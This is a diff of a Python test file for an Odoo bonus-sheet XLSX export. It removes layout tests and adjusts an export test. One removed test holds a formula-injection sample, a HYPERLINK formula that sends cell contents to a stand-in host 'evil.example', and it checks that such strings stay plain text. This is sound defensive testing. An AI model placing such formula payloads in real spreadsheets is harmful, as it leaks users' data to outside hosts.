@@ -7,7 +7,6 @@ import openpyxl
 from freezegun import freeze_time
 
 from odoo import Command
-from odoo.addons.kpi_management.report.bonus_xlsx import build_bonus_xlsx
 from odoo.exceptions import AccessError
 from odoo.tests import HttpCase
 
@@ -149,87 +148,18 @@ class TestBonusPreview(BonusCase):
 
 
 class TestBonusXlsx(BonusCase):
-    def test_build_and_read_back(self):
-        header = {"title": "Bonus sheet", "company": "ACME", "scheme": "Sales bonus",
-                  "team": "Team A", "period": "2026-11-01 - 2026-11-30", "currency": "EUR",
-                  "currency_format": '#,##0.00 "EUR"',
-                  "approvals": [("Approved by HR", "Hanna", None)]}
-        rows = [
-            {"name": "Valery", "login": "valery", "profile": "Sales", "team": "Team A",
-             "kpis": [{"value": 250000, "target": 200000, "score": 125, "weight": 100}],
-             "total_score": 125, "payout_percent": 125, "amount": 6250.5},
-            {"name": "Vasily", "login": "vasily", "profile": "Sales", "team": "Team A",
-             "note": "Paid for 15 of the 30 days of the period.",
-             "kpis": [{"value": 100000, "target": 200000, "score": 50, "weight": 100}],
-             "total_score": 50, "amount": 0},
-            {"name": "Vera", "login": "vera", "profile": "Sales", "team": "Team A",
-             "note": "Nothing to measure for Net profit (100%).",
-             "kpis": [{"value": 0, "target": 200000, "score": 0, "weight": 0, "no_data": True}],
-             "total_score": 0, "amount": 0},
-        ]
-        content = build_bonus_xlsx(header, ["Net profit"], rows)
-        ws = openpyxl.load_workbook(io.BytesIO(content), data_only=True).active
-        self.assertEqual(ws["B2"].value, "ACME")
-        header_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Employee")
-        titles = [c.value for c in ws[header_row]]
-        self.assertEqual(titles[:10], ["Employee", "Login", "Profile", "Sales Team",
-                                       "Notes", "Net profit: Value", "Net profit: Target",
-                                       "Net profit: Score (%)", "Net profit: Weight Used (%)",
-                                       "Weighted Score (%)"])
-        self.assertEqual(titles[10:], ["Payout (%)", "Bonus (EUR)"])
-        first = ws[header_row + 1]
-        self.assertEqual([c.value for c in first], ["Valery", "valery", "Sales", "Team A",
-                                                    "", 250000, 200000, 125, 100, 125, 125,
-                                                    6250.5])
-        self.assertIsInstance(first[11].value, float)
-        self.assertIn("EUR", first[11].number_format)
-        self.assertEqual(ws[header_row + 2][4].value,
-                         "Paid for 15 of the 30 days of the period.")
-        self.assertIsNone(ws[header_row + 2][10].value)  # no payout % given: left empty
-        # nothing to measure: said in words, never a 0 that looks measured
-        self.assertEqual([c.value for c in ws[header_row + 3]][4:9],
-                         ["Nothing to measure for Net profit (100%).", "no data", 200000,
-                          "no data", 0])
-        # the bonus is a total, the weighted score an average: each row says which
-        totals, average = ws[header_row + 4], ws[header_row + 5]
-        self.assertEqual((totals[0].value, totals[9].value, totals[11].value),
-                         ("Total", None, 6250.5))
-        self.assertEqual((average[0].value, average[9].value, average[11].value),
-                         ("Average", 175 / 3, None))
-        self.assertEqual(ws.freeze_panes, "B%s" % (header_row + 1))
-        self.assertEqual(ws.auto_filter.ref, "A%s:L%s" % (header_row, header_row + 3))
-        self.assertEqual(ws.page_setup.orientation, "landscape")
-        self.assertEqual(ws.print_title_rows, "$%s:$%s" % (header_row, header_row))
-
-    def test_strings_are_never_formulas(self):
-        evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-        header = {"title": evil, "company": evil, "scheme": "S", "team": evil, "period": "P",
-                  "currency": "EUR", "approvals": [(evil, evil, None)]}
-        rows = [{"name": evil, "login": "=1+1", "profile": "+SUM(A1)", "team": "-2",
-                 "kpis": [{"value": 1, "target": 1, "score": 100, "weight": 100}],
-                 "total_score": 100, "amount": 5}]
-        content = build_bonus_xlsx(header, [evil], rows)
-        ws = openpyxl.load_workbook(io.BytesIO(content)).active
-        given = {evil, "=1+1", "+SUM(A1)", "-2", evil + ": Value"}
-        cells = [c for row in ws.iter_rows() for c in row if c.value in given]
-        self.assertEqual(len(cells), 10)  # title, company, team, approval x2, KPI, employee
-        for cell in cells:
-            self.assertEqual(cell.data_type, "s", cell.coordinate)
-        header_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Employee")
-        employee = ws[header_row + 1]
-        self.assertEqual((employee[0].value, employee[0].data_type), (evil, "s"))
-        self.assertEqual((employee[1].value, employee[1].data_type), ("=1+1", "s"))
+    """The export as HR runs it; the workbook's layout is tested in test_bonus_xlsx.py."""
 
     def test_sheet_workbook_and_export_state(self):
         sheet = self.new_sheet()
         sheet.with_user(self.officer).action_compute()
         self.approve(sheet)
         content = sheet.with_user(self.officer)._get_xlsx_content()
-        ws = openpyxl.load_workbook(io.BytesIO(content)).active
-        cells = [c.value for row in ws.iter_rows() for c in row]
+        workbook = openpyxl.load_workbook(io.BytesIO(content))
+        cells = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
         for expected in (self.env.company.name, "Sales bonus", self.manager.name,
                          self.officer.name, self.salesman.login, self.salesman2.login,
-                         "Customer service: Score (%)"):
+                         "Customer service"):
             self.assertIn(expected, cells)
         action = sheet.with_user(self.officer).action_export_xlsx()
         self.assertEqual((sheet.state, sheet.exported_uid), ("exported", self.officer))
